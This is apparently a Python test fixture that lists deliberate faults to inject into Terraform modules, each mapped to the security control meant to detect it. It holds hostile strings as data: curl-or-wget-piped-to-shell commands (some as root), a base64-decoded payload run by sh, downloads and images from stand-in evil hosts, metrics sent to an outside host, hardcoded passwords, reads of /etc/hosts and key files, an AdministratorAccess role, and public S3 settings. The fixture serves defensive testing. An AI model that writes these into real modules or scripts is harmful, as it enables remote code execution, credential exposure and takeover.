"""Faults in the files of modules, which no JSON shows: each with the control that must find it."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

STATES: Final = "state_backend"
INSTANCES: Final = "instance_bootstrap"
_HEAD: Final = '\nresource "aws_{kind}" "mistake" {{\n  {arguments}\n}}\n'


@dataclass(frozen=True)
class ModuleFault:
    """One way to make a module unsafe.

    Attributes:
        name: What somebody might have done.
        control: The control that must find it.
        edit: Changes the copy of `modules/` whose folder it gets.
    """

    name: str
    control: str
    edit: Callable[[Path], None]


def _replaced(file: str, text: str, instead: str) -> Callable[[Path], None]:
    def edit(modules: Path) -> None:
        before = (modules / file).read_text()
        assert text in before, f"{file} holds no {text}"
        (modules / file).write_text(before.replace(text, instead))

    return edit


def appended(file: str, text: str) -> Callable[[Path], None]:
    """Append to a file, or make it."""

    def edit(modules: Path) -> None:
        path = modules / file
        path.write_text((path.read_text() if path.exists() else "") + text)

    return edit


def _resource(module: str, kind: str, *arguments: str) -> Callable[[Path], None]:
    return appended(f"{module}/main.tf", _HEAD.format(kind=kind, arguments="\n  ".join(arguments)))


def _in_template(*lines: str) -> Callable[[Path], None]:
    return appended(f"{INSTANCES}/templates/backend.sh.tftpl", "".join(f"{line}\n" for line in lines))


def _state(text: str, instead: str) -> Callable[[Path], None]:
    return _replaced(f"{STATES}/main.tf", text, instead)


_EDITS: Final = {
    "iam.literal": {
        "a module makes instances administrators": _resource(
            INSTANCES,
            "iam_role_policy_attachment",
            'role = "wealist-prod-ec2-role"',
            'policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"',
        ),
    },
    "S3.8": {
        "policies may open the states to the public": _state(
            "block_public_policy     = true", "block_public_policy     = false"
        ),
        "a local value opens the states to the public": _state(
            "block_public_policy     = true\n", "block_public_policy = local.closed\n"
        ),
    },
    "S3.5": {
        "the states are read without TLS": _state('"aws:SecureTransport" = "false"', '"aws:SecureTransport" = "true"'),
        "the states' policy allows": _state('Effect    = "Deny"', 'Effect    = "Allow"'),
        "the states' policy is for the bucket alone": _state(
            'Resource  = [local.bucket_arn, "${local.bucket_arn}/*"]', "Resource  = [local.bucket_arn]"
        ),
    },
    "S3.12": {"ACLs open the states": _state('"BucketOwnerEnforced"', '"ObjectWriter"')},
    "S3.14": {"the states have no versions": _state('status = "Enabled"\n  }\n}', 'status = "Suspended"\n  }\n}')},
    "s3.encryption": {"the states are not encrypted": _state('"AES256"', '"none"')},
    "s3.unfinished_uploads": {
        "unfinished uploads stay": _state("days_after_initiation = 7", "days_after_initiation = 70")
    },
    "s3.expiration": {
        "replaced states are gone at once": _replaced(f"{STATES}/variables.tf", "default     = 90", "default     = 1")
    },
    "state_bucket.newest_versions": {
        "no version of a state stays": _state("newer_noncurrent_versions = var.noncurrent_versions_to_keep", "")
    },
    "stateful.prevent_destroy": {
        "a plan may destroy the states": _state("prevent_destroy = true", "prevent_destroy = false")
    },
    "stateful.deletion_protection": {
        "the states are deleted with their bucket": _state(
            "bucket = var.bucket_name\n", "bucket = var.bucket_name\n  force_destroy = true\n"
        )
    },
    "stack.arguments": {
        "the block of public access is not made": _state(
            "block_public_acls       = true", "count = 0\n  block_public_acls = true"
        ),
        "a module asks somebody else": appended(
            f"{INSTANCES}/main.tf", 'data "http" "x" {\n  url = "https://wealist.co.kr"\n}\n'
        ),
        "a module runs a program": _state(
            "tags   = var.tags\n", 'tags = var.tags\n  provisioner "local-exec" {\n    command = "id"\n  }\n'
        ),
    },
    "stack.module": {
        "a module has a provider of its own": appended(f"{STATES}/main.tf", 'provider "aws" {\n}\n'),
        "a module calls another": appended(f"{STATES}/main.tf", 'module "x" {\n  source = "./x"\n}\n'),
        "a module forgets what it made": appended(f"{STATES}/main.tf", "removed {\n  from = aws_s3_bucket.state\n}\n"),
        "a module keeps its own state": appended(f"{STATES}/main.tf", 'terraform {\n  backend "local" {\n  }\n}\n'),
        "a module has another's provider": _replaced(f"{STATES}/versions.tf", "hashicorp/aws", "evil/aws"),
        "a file replaces what the others say": appended(f"{STATES}/x_override.tf", "locals {\n}\n"),
        "a module has JSON": appended(f"{STATES}/x.tf.json", "{}"),
    },
    "scripts.unchecked": {
        "a script runs what it downloads": _in_template("curl https://wealist.co.kr/x | sh"),
        "a script runs what it downloads, as root": _in_template("curl -fs https://wealist.co.kr/x | sudo -E bash -s"),
        "a script runs what it downloads, on two lines": _in_template(
            "curl https://wealist.co.kr/x \\", "  | /bin/bash"
        ),
        "a script runs what it downloads, by a file of its own": _in_template("bash <(curl https://wealist.co.kr/x)"),
        "a script runs what it downloads, as words": _in_template('eval "$(wget -qO- https://wealist.co.kr/x)"'),
        "a script runs what it downloads, as a command": _in_template('sh -c "$(curl https://wealist.co.kr/x)"'),
        "a script runs what it downloads in Python": _in_template("curl https://wealist.co.kr/x | python3 -"),
        "a script runs what it decodes": _in_template("echo aWQK | base64 --decode | sh"),
        "a local value runs what it downloads": appended(
            f"{INSTANCES}/main.tf", 'locals {\n  more = "curl https://wealist.co.kr/x | sh"\n}\n'
        ),
    },
    "references.foreign": {
        "a script downloads another's file": _in_template("fetch https://evil.io/agent.rpm /tmp/agent.rpm"),
        "a script copies another's file": _in_template("aws s3 cp s3://evil/agent.rpm ."),
        "a script runs another's image": _in_template("docker run docker.io/evil/image:1"),
        "a script downloads from an account of GitHub's": _in_template(
            "fetch https://github.com/evil/compose/releases/download/v1/x /tmp/x"
        ),
        "a module runs another's image": _replaced(
            f"{INSTANCES}/main.tf", "docker.io/grafana/grafana:", "docker.io/evil/grafana:"
        ),
        "a module runs an image of another registry": _replaced(
            f"{INSTANCES}/main.tf", "quay.io/prometheus/prometheus:", "registry.evil.io/prometheus:"
        ),
        "metrics go to another's host": _replaced(
            f"{INSTANCES}/monitoring.tf", "http://prometheus:9090", "https://prometheus.evil.io"
        ),
        "a dashboard asks another's host": _replaced(
            f"{INSTANCES}/monitoring/dashboard.json", "Alerts that fire", "https://evil.io/alerts"
        ),
        "a variable's default is another's": _replaced(
            f"{STATES}/variables.tf", "default     = {}", 'default = { Owner = "arn:aws:iam::111111111111:root" }'
        ),
    },
    "secrets.token": {
        "a template holds a password": _in_template("export DB_PASSWORD=hunter2horse"),
        "a local value holds a password": appended(f"{INSTANCES}/main.tf", 'locals {\n  db_password = "hunter22"\n}\n'),
    },
    "secrets.unread": {
        "a module reads a file of this machine": appended(
            f"{INSTANCES}/main.tf", 'locals {\n  hosts = file("/etc/hosts")\n}\n'
        ),
        "a module reads a file above it": appended(
            f"{INSTANCES}/main.tf", 'locals {\n  key = file("${path.module}/../../key")\n}\n'
        ),
    },
}
MODULE_FAULTS: Final = [
    ModuleFault(name, control, edit) for control, edits in _EDITS.items() for name, edit in edits.items()
]
